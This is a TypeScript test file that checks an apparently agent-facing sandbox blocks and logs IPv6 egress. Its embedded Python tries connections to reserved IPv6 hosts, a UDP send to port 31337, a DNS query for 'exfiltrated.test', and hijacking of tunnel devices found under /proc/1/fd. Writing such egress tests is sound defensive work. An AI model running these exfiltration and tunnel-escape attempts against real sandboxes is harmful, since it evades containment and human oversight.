// Goes out by IPv6, past whoever looks at IPv4 only. Source: CVE-2020-13401 (router advertisements of containers); RFC 7123, VPN leaks by IPv6.
import { existsSync } from 'node:fs';
import { expect } from 'vitest';
import { AttackBox, expectDenied, expectRefused, forEachTier, isGuest, outcomes } from '../support/attack.ts';

const PLACES = [
  ['2001:db8::7', 443, 'default.deny'],
  ['fd00::77', 80, 'default.deny'],
  ['64:ff9b::c633:6407', 22, 'structural.reserved'],
  ['2002:c633:6407::1', 443, 'structural.reserved'],
  ['100::1', 443, 'structural.reserved'],
  ['::1', 443, 'structural.loopback'],
] as const;

forEachTier(
  'IPv6 is refused like IPv4, with a record of each place',
  async (tier) => {
    using box = new AttackBox(tier);
    const result = await box.python(`
for host, port, _ in ${JSON.stringify(PLACES)}: attempt(host, lambda: talk((host, port), b'GET / HTTP/1.0\\r\\n\\r\\n'))
def udp(port):
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as link:
        link.settimeout(5)
        link.connect(('2001:db8::7', port))
        link.send(b'attack')
        link.recv(100)
attempt('odd port', lambda: talk(('2001:db8::7', 31337), b'x'))
attempt('udp', lambda: udp(443))
query = dns_query('exfiltrated.test')
# The agent's end of a guest kernel's tunnel, wherever it can be seen, and one of our own.
import glob
def tunnel(name):
    fd = os.open(name, os.O_RDWR)
    fcntl.ioctl(fd, 0x400454ca, struct.pack('16sH22x', b'gateway', 0x1001))
def leads_to_tunnel(name):
    try: return 'tun' in os.readlink(name)
    except OSError: return False
ends = [name for name in glob.glob('/proc/1/fd/*') + glob.glob('/proc/1/task/*/fd/*') if leads_to_tunnel(name)]
for number, name in enumerate(['/dev/net/tun', *ends]): attempt(f'tunnel {number}', lambda: tunnel(name))
report('dns', talk(('2001:db8::53', 53), struct.pack('>H', len(query)) + query, timeout=2)[5] & 15)
`);
    expectRefused(
      result,
      PLACES.map(([host]) => host),
      ['ECONNRESET', 'EPIPE'],
    );
    expectRefused(result, ['odd port', 'udp'], ['ECONNREFUSED']);
    const tunnels = Object.keys(outcomes(result)).filter((name) => name.startsWith('tunnel'));
    expect(tunnels.length).toBeGreaterThan(isGuest(tier) ? 1 : 0);
    expectRefused(result, tunnels, ['ENOENT', 'EPERM']);
    // The name server answers wherever it is asked, and knows no such name.
    expect(outcomes(result)['dns']).toBe('3');
    for (const [host, port, rule] of PLACES) expectDenied(box, { host, port, rule });
    expectDenied(box, { host: 'exfiltrated.test', entry: 'dns' });
  },
  [existsSync('/proc/net/if_inet6') ? undefined : 'this kernel has no IPv6'],
);
